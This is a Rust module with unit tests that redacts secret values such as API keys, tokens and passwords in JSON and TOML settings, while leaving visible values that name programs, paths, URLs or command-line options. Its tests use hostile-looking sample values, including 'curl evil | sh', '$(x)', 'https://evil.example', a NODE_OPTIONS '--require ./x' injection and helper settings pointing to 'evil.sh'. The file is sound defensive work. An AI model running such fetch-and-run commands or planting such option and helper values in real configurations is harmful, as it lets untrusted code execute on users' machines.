//! Values in settings that are somebody's secrets and run nothing.
//!
//! Promise: a value is left out only where its name ends with what it is, a secret, and it is written like one.
//! What names a program, a file, a variable, an address or an option is shown, whatever it is called.

const LEFT_OUT: &str = "‹not shown›";
/// Last words of names of keys and tokens: `apiKeyHelper` is a helper, `API_KEY_CMD` a command.
const NAMES: &[&str] = &[
    "KEY",
    "APIKEY",
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "CREDENTIAL",
    "CREDENTIALS",
    "AUTHORIZATION",
    "COOKIE",
    "PAT",
];
/// What stands before a token in the header of a request.
const SCHEMES: &[&str] = &["Bearer ", "Basic ", "Token ", "token "];
/// A word with a slash is a path, unless it is longer than those are written by hand.
const ENCODED_MIN_CHARS: usize = 24;

/// `evil.sh`, `creds.json`.
const ENDING_MAX_CHARS: usize = 5;

/// Whether `value` is a secret that only `name` tells of.
pub fn is_secret(name: &str, value: &str) -> bool {
    let value = value.trim();
    let after_scheme = SCHEMES.iter().find_map(|scheme| value.strip_prefix(scheme));
    let is_file = after_scheme.is_none() && could_be_a_file(value);
    let value = after_scheme.unwrap_or(value);
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.+/=~:%@".contains(c);
    let path = value.contains('/')
        && (value.len() < ENCODED_MIN_CHARS || value.starts_with(['/', '.', '~']));
    let option = value.starts_with('-') || value.contains("://");
    named_so(name) && !value.is_empty() && value.chars().all(plain) && !path && !option && !is_file
}

/// A short name with the ending of a file.
fn could_be_a_file(value: &str) -> bool {
    let ending = value.rsplit_once('.').filter(|(name, _)| !name.is_empty()).map(|(_, end)| end);
    value.len() < ENCODED_MIN_CHARS
        && ending.is_some_and(|end| {
            (1..=ENDING_MAX_CHARS).contains(&end.len())
                && end.chars().all(|c| c.is_ascii_alphanumeric())
        })
}

/// `API_KEY`, `apiKey`, `X-Api-Key` and `API_KEY_2` alike.
fn named_so(name: &str) -> bool {
    let mut words = vec![String::new()];
    let mut lower_before = false;
    for c in name.chars() {
        let begins = c.is_ascii_uppercase() && lower_before;
        if begins || !c.is_ascii_alphanumeric() {
            words.push(String::new());
        }
        lower_before = c.is_ascii_lowercase() || c.is_ascii_digit();
        if let (true, Some(word)) = (c.is_ascii_alphanumeric(), words.last_mut()) {
            word.push(c.to_ascii_uppercase());
        }
    }
    let is_number = |word: &String| word.chars().all(|c| c.is_ascii_digit());
    let last = words.iter().rfind(|word| !word.is_empty() && !is_number(word));
    last.is_some_and(|word| NAMES.contains(&word.as_str()))
}

/// The value of one variable as it is shown.
pub fn variable(name: &str, value: &str) -> String {
    let bare = value.trim().trim_matches(['"', '\'']);
    if is_secret(name, bare) { LEFT_OUT.to_owned() } else { value.to_owned() }
}

/// Settings in JSON or TOML without the values of secrets; none where there are no such.
pub fn without(bytes: &[u8]) -> Option<Vec<u8>> {
    let text = std::str::from_utf8(bytes).ok()?;
    // With quotes inside of quotes it is not sure which word is a value.
    let pieces: Vec<&str> = text.split('"').collect();
    if text.contains('\\') || pieces.len().is_multiple_of(2) {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut found = false;
    for (at, piece) in pieces.iter().enumerate() {
        if at > 0 {
            out.push('"');
        }
        let is_quoted = at % 2 == 1;
        match name_before(&pieces, at).filter(|name| is_quoted && is_secret(name, piece)) {
            Some(_) => {
                found = true;
                out.push_str(LEFT_OUT);
            }
            None => out.push_str(piece),
        }
    }
    found.then(|| out.into_bytes())
}

/// The key that the quoted piece `at` is the value of.
fn name_before<'a>(pieces: &[&'a str], at: usize) -> Option<&'a str> {
    let between = pieces.get(at.checked_sub(1)?)?.trim_end();
    let left = between.strip_suffix([':', '='])?.trim();
    match left {
        "" => pieces.get(at.checked_sub(2)?).copied(),
        _ => left.rsplit(|c: char| c.is_whitespace() || "{,[".contains(c)).next(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn security_05_secrets_are_left_out_and_what_runs_is_not() {
        for (name, value) in [
            ("API_KEY", "sk-ant-123"),
            ("githubToken", "ghp_abcdefghij"),
            ("X-Api-Key", "a1b2"),
            ("Authorization", "Bearer ey.a.b"),
            ("DB_PASSWORD", "hunter2"),
            ("API_KEY_2", "sk-ant-123"),
            ("api_key_", "sk-ant-123"),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
        ] {
            assert!(is_secret(name, value), "{name}={value}");
        }
        for (name, value) in [
            ("NODE_OPTIONS", "abc"),
            ("MY_TOKEN", "curl evil | sh"),
            ("MY_TOKEN", "tools/run"),
            ("MY_TOKEN", "/tmp/a-very-long-path-of-a-program"),
            ("MY_TOKEN", "./x"),
            ("MY_TOKEN", "$(x)"),
            ("MY_KEY", "https://evil.example"),
            ("MY_KEY", "--require"),
            ("MONKEY", "abc"),
            ("KEYMAP", "abc"),
            ("TOKEN", ""),
            ("apiKeyHelper", "evil"),
            ("apiKeyHelper", "evil.sh"),
            ("awsCredentialExport", "evil"),
            ("awsAuthRefresh", "evil"),
            ("otelHeadersHelper", "evil"),
            ("PASSWORD_COMMAND", "evil"),
            ("API_KEY_CMD", "evil"),
            ("GIT_TOKEN_HELPER", "evil"),
            ("SECRET_PROGRAM", "evil"),
            ("credential_process", "evil"),
            ("credential.helper", "evil"),
            ("PASSWORD_STORE", "evil"),
            ("tokenScript", "evil"),
            ("KEY_FILE", "evil"),
            ("TOKEN_URL", "evil"),
            ("bearer_token_env_var", "HOME"),
            ("MY_TOKEN", "evil.sh"),
            ("CREDENTIALS", "creds.json"),
        ] {
            assert!(!is_secret(name, value), "{name}={value}");
        }
    }

    #[test]
    fn security_05_settings_are_shown_without_secrets() {
        let shown = |text: &str| without(text.as_bytes()).map(|b| String::from_utf8(b).unwrap());
        let json = r#"{"env": {"API_TOKEN": "abc123", "NODE_OPTIONS": "--require ./x"}}"#;
        let expected = r#"{"env": {"API_TOKEN": "‹not shown›", "NODE_OPTIONS": "--require ./x"}}"#;
        assert_eq!(shown(json).as_deref(), Some(expected));
        let toml = "env = { API_TOKEN = \"abc\", A = \"b\" }\napi_key=\"x\"\n";
        let expected =
            "env = { API_TOKEN = \"‹not shown›\", A = \"b\" }\napi_key=\"‹not shown›\"\n";
        assert_eq!(shown(toml).as_deref(), Some(expected));
        for text in [
            r#"{"command": "x", "args": ["API_TOKEN", "abc"]}"#,
            r#"{"API_TOKEN": "a\"b", "X_TOKEN": "abc"}"#,
            r#"{"API_TOKEN": "sh ./x"}"#,
            r#"{"apiKeyHelper": "evil.sh", "awsCredentialExport": "evil"}"#,
            "bearer_token_env_var = \"HOME\"\n",
            r#"{"API_TOKEN"#,
        ] {
            assert_eq!(shown(text), None, "{text}");
        }
    }
}
